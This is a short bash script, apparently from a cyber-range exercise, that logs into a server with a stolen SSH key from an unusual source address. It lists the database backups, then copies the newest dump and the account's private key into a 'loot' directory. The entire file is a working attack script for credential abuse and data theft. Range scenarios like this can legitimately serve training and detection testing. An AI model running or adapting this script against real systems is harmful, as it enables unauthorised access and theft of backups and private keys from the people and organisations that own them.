#!/bin/bash
# deploy's stolen key, used from an address that never logs in: the newest dump and the private key go out.
options="-q -i /range/keys/deploy -o BindAddress=203.0.113.77"
newest=$(ssh $options deploy@10.20.0.5 'id; ls -la /var/backups/db; ls -t /var/backups/db/*.gz' | grep '^/' | head -n 1)
sleep 2
scp $options "deploy@10.20.0.5:$newest" /range/loot/
sleep 1
scp $options 'deploy@10.20.0.5:.ssh/id_ed25519' /range/loot/
[ -s "/range/loot/$(basename "$newest")" ]
